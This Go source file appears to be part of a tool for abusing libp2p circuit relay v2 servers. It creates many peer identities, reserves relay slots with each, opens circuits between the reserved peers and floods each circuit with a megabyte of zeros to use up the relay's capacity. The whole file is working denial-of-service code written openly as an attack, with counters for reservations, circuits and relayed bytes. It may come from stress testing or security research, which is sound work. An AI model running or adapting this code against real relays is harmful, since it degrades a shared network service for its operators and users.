package main

import (
	"io"
	"sync"

	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/core/protocol"
	relaypb "github.com/libp2p/go-libp2p/p2p/protocol/circuitv2/pb"
	"github.com/libp2p/go-libp2p/p2p/protocol/circuitv2/util"
)

const (
	hopID     = protocol.ID("/libp2p/circuit/relay/0.2.0/hop")
	stopID    = protocol.ID("/libp2p/circuit/relay/0.2.0/stop")
	maxRelays = 4096
)

// reserved are the peers that have a reservation.
type reserved struct {
	mu  sync.Mutex
	ids []peer.ID
}

func (r *reserved) add(id peer.ID) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if len(r.ids) < maxRelays {
		r.ids = append(r.ids, id)
	}
}

func (r *reserved) one(i int) (peer.ID, bool) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if len(r.ids) == 0 {
		return "", false
	}
	return r.ids[i%len(r.ids)], true
}

// abuseRelay reserves with as many identities as it can; each opens circuits to others and pumps bytes through them.
func abuseRelay(a *attacker) error {
	a.answers.AddHandler(stopID, nil)
	var known reserved
	held := held{most: a.peers}
	defer held.closeAll()
	a.repeat(holdersAtOnce, func() error {
		c, err := a.identity()
		if err != nil {
			return err
		}
		if err := c.connect(); err != nil {
			return err
		}
		held.keep(c.close)
		a.count("connections", 1)
		status, stream, err := c.hop(&relaypb.HopMessage{Type: relaypb.HopMessage_RESERVE.Enum()})
		if err != nil {
			return err
		}
		stream.Close()
		a.count("reservations "+status.String(), 1)
		if status == relaypb.Status_OK {
			known.add(c.id)
		}
		return a.openCircuits(c, &known)
	})
	return nil
}

const circuitsAPeer = 4

func (a *attacker) openCircuits(c *client, known *reserved) error {
	for range circuitsAPeer {
		dest, found := known.one(int(a.next.Add(1)))
		if !found {
			return nil
		}
		request := &relaypb.HopMessage{Type: relaypb.HopMessage_CONNECT.Enum(), Peer: util.PeerInfoToPeerV2(peer.AddrInfo{ID: dest})}
		status, stream, err := c.hop(request)
		if err != nil {
			return err
		}
		a.count("circuits "+status.String(), 1)
		if status != relaypb.Status_OK {
			stream.Reset()
			continue
		}
		go func() {
			written, _ := io.Copy(stream, io.LimitReader(zeros{}, 1<<20))
			a.count("relayed bytes", int(written))
			stream.Reset()
		}()
	}
	return nil
}

// zeros has bytes without end.
type zeros struct{}

func (zeros) Read(into []byte) (int, error) { return len(into), nil }

func (c *client) hop(request *relaypb.HopMessage) (relaypb.Status, network.MuxedStream, error) {
	stream, err := c.open(hopID)
	if err != nil {
		return 0, nil, err
	}
	if err := util.NewDelimitedWriter(stream).WriteMsg(request); err != nil {
		stream.Reset()
		return 0, nil, err
	}
	reader, answer := util.NewDelimitedReader(stream, 4096), new(relaypb.HopMessage)
	if err := reader.ReadMsg(answer); err != nil {
		stream.Reset()
		return 0, nil, err
	}
	return answer.GetStatus(), stream, nil
}

// serveCircuit takes every circuit and drops what comes through it.
func serveCircuit(stream network.MuxedStream) {
	reader, request := util.NewDelimitedReader(stream, 4096), new(relaypb.StopMessage)
	if reader.ReadMsg(request) != nil {
		return
	}
	answer := &relaypb.StopMessage{Type: relaypb.StopMessage_STATUS.Enum(), Status: relaypb.Status_OK.Enum()}
	if util.NewDelimitedWriter(stream).WriteMsg(answer) == nil {
		io.Copy(io.Discard, stream)
	}
}
